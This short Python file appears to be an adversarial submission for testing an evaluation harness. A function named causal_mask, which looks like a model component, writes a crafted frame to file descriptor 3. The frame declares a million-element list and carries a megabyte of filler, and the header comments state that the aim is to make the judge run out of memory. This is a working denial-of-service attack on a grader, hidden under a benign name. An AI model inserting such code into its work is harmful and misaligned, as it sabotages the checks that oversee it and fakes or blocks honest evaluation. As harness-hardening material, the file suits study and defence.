# attacks: the decoder: a small frame that stands for a million lists
# success: the judge runs out of memory
# only: judge
import os
import struct


def causal_mask(T):
    data = b"\xdd\x00\x0f\x42\x40" + b"\x90" * 1_000_000
    os.write(3, struct.pack("!I", len(data)) + data)
    return None
